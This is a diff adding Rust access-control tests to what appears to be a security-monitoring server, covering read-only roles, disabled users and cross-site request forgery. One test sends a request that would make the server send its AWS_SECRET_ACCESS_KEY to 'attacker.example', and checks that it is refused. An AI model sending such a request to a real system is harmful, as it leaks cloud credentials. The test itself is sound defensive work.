@@ -119,6 +119,38 @@ fn api_routes(intake: &str) -> Vec<(&'static str, String, &'static str)> {
             r#"{"name":"x","role":"admin"}"#,
         ),
         ("DELETE", "/api/v1/tokens/x".into(), ""),
+        ("GET", "/api/v1/events/fields".into(), ""),
+        ("GET", "/api/v1/assignees".into(), ""),
+        ("GET", "/api/v1/searches".into(), ""),
+        (
+            "POST",
+            "/api/v1/searches".into(),
+            r#"{"name":"x","query":"*","shared":true}"#,
+        ),
+        (
+            "POST",
+            "/api/v1/alerts/bulk".into(),
+            r#"{"ids":["AL00000000"],"status":"Closed"}"#,
+        ),
+        (
+            "POST",
+            "/api/v1/alerts/AL00000000/assignee".into(),
+            r#"{"assignee":"admin"}"#,
+        ),
+        ("GET", "/api/v1/rules/x/source".into(), ""),
+        ("GET", "/api/v1/cti/feeds".into(), ""),
+        (
+            "POST",
+            "/api/v1/cti/feeds".into(),
+            r#"{"url":"https://feeds.example/stix","every":"1h"}"#,
+        ),
+        ("DELETE", "/api/v1/cti/feeds?url=x".into(), ""),
+        (
+            "POST",
+            "/api/v1/cti/indicators".into(),
+            r#"{"type":"domain-name","value":"pwned.example"}"#,
+        ),
+        ("POST", "/api/v1/cti/indicators/x/revoke".into(), ""),
         ("GET", "/v1/sic/conf/intakes".into(), ""),
         ("POST", "/v1/sic/conf/intakes".into(), r#"{"name":"x"}"#),
         ("GET", format!("/v1/sic/conf/intakes/{i}"), ""),
@@ -142,6 +174,9 @@ const CONSOLE_PAGES: &[&str] = &[
     "/console/intakes",
     "/console/intakes/x",
     "/console/rules",
+    "/console/rules/x",
+    "/console/dashboards",
+    "/console/dashboards/web",
     "/console/cti",
     "/console/settings",
 ];
@@ -270,7 +305,26 @@ fn a_read_only_user_can_read_but_cannot_change_anything() {
             r.status, r.body
         );
     }
-    // Nothing changed: the intake is still enabled, no user or token was added.
+    // Nothing changed: the intake is still enabled, no user or token was added, no search
+    // shared, no CTI source or indicator added.
+    let shared = s.admin.send(s.server.http, "GET", "/api/v1/searches", "");
+    assert_eq!(
+        shared.json()["items"],
+        serde_json::json!([]),
+        "{}",
+        shared.body
+    );
+    let feeds = s.admin.send(s.server.http, "GET", "/api/v1/cti/feeds", "");
+    assert_eq!(
+        feeds.json()["items"],
+        serde_json::json!([]),
+        "{}",
+        feeds.body
+    );
+    let inds = s
+        .admin
+        .send(s.server.http, "GET", "/api/v1/cti/indicators?q=pwned", "");
+    assert_eq!(inds.json()["total"], 0, "{}", inds.body);
     let v: serde_json::Value = serde_json::from_str(
         &s.admin
             .send(s.server.http, "GET", "/api/v1/intakes", "")
@@ -279,6 +333,160 @@ fn a_read_only_user_can_read_but_cannot_change_anything() {
     .unwrap();
     assert_eq!(v["items"].as_array().unwrap().len(), 1);
     assert_eq!(v["items"][0]["status"], "enabled");
+}
+
+#[test]
+fn a_read_only_user_keeps_personal_searches_but_cannot_delete_another_users() {
+    let s = start();
+    let r = s.admin.send(
+        s.server.http,
+        "POST",
+        "/api/v1/users",
+        r#"{"name":"auditor","role":"read-only","password":"read-only-pass-123"}"#,
+    );
+    assert_eq!(r.status, 201, "{}", r.body);
+    let ro = Session::sign_in(s.server.http, "auditor", "read-only-pass-123");
+    let mine = ro.send(
+        s.server.http,
+        "POST",
+        "/api/v1/searches",
+        r#"{"name":"mine","query":"event.dataset:dns","since":"24h"}"#,
+    );
+    assert_eq!(mine.status, 201, "{}", mine.body);
+    let theirs = s.admin.send(
+        s.server.http,
+        "POST",
+        "/api/v1/searches",
+        r#"{"name":"team","query":"*","shared":true}"#,
+    );
+    assert_eq!(theirs.status, 201, "{}", theirs.body);
+    let id = theirs.json()["id"].as_str().unwrap().to_string();
+    let r = ro.send(
+        s.server.http,
+        "DELETE",
+        &format!("/api/v1/searches/{id}"),
+        "",
+    );
+    assert_eq!(r.status, 403, "{}", r.body);
+    let listed = ro.send(s.server.http, "GET", "/api/v1/searches", "").json();
+    let names: Vec<&str> = listed["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|x| x["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["mine", "team"]);
+}
+
+#[test]
+fn a_disabled_user_is_signed_out_at_once() {
+    let s = start();
+    let r = s.admin.send(
+        s.server.http,
+        "POST",
+        "/api/v1/users",
+        r#"{"name":"leaver","role":"analyst","password":"analyst-pass-1234"}"#,
+    );
+    assert_eq!(r.status, 201, "{}", r.body);
+    let leaver = Session::sign_in(s.server.http, "leaver", "analyst-pass-1234");
+    assert_eq!(
+        leaver
+            .send(s.server.http, "GET", "/api/v1/overview", "")
+            .status,
+        200
+    );
+    let r = s.admin.send(
+        s.server.http,
+        "PATCH",
+        "/api/v1/users/leaver",
+        r#"{"disabled":true}"#,
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert_eq!(r.json()["disabled"], true);
+    assert_eq!(
+        leaver
+            .send(s.server.http, "GET", "/api/v1/overview", "")
+            .status,
+        401
+    );
+    let again = request(
+        s.server.http,
+        "POST",
+        "/api/v1/session",
+        &[("content-type", "application/json")],
+        r#"{"user":"leaver","password":"analyst-pass-1234"}"#,
+    );
+    assert_eq!(again.status, 401, "{}", again.body);
+}
+
+#[test]
+fn an_admin_cannot_disable_themselves() {
+    let s = start();
+    let r = s.admin.send(
+        s.server.http,
+        "PATCH",
+        "/api/v1/users/admin",
+        r#"{"disabled":true}"#,
+    );
+    assert_eq!(r.status, 400, "{}", r.body);
+}
+
+#[test]
+fn an_analyst_cannot_register_a_cti_source() {
+    let s = start();
+    let r = s.admin.send(
+        s.server.http,
+        "POST",
+        "/api/v1/users",
+        r#"{"name":"ana","role":"analyst","password":"analyst-pass-1234"}"#,
+    );
+    assert_eq!(r.status, 201, "{}", r.body);
+    let ana = Session::sign_in(s.server.http, "ana", "analyst-pass-1234");
+    // The server would fetch the URL with the token of one of its environment variables.
+    let r = ana.send(
+        s.server.http,
+        "POST",
+        "/api/v1/cti/feeds",
+        r#"{"url":"https://attacker.example/","every":"1h","token_env":"AWS_SECRET_ACCESS_KEY"}"#,
+    );
+    assert_eq!(r.status, 403, "{}", r.body);
+    // Adding an indicator by hand is triage: allowed.
+    let r = ana.send(
+        s.server.http,
+        "POST",
+        "/api/v1/cti/indicators",
+        r#"{"type":"domain-name","value":"c2.example"}"#,
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+}
+
+#[test]
+fn cross_site_form_posts_to_the_triage_and_cti_routes_are_rejected() {
+    let s = start();
+    let forged = [
+        ("cookie", s.admin.cookie.as_str()),
+        ("content-type", "application/x-www-form-urlencoded"),
+        ("origin", "http://evil.example"),
+    ];
+    for path in [
+        "/api/v1/alerts/bulk",
+        "/api/v1/alerts/AL00000000/assignee",
+        "/api/v1/searches",
+        "/api/v1/cti/feeds",
+        "/api/v1/cti/indicators",
+        "/api/v1/cti/indicators/x/revoke",
+    ] {
+        let r = request(s.server.http, "POST", path, &forged, "x=1");
+        assert_eq!(r.status, 403, "{path}: {}", r.body);
+    }
+    let r = request(
+        s.server.http,
+        "PATCH",
+        "/api/v1/users/admin",
+        &forged,
+        "disabled=true",
+    );
+    assert_eq!(r.status, 403, "{}", r.body);
 }
 
 #[test]
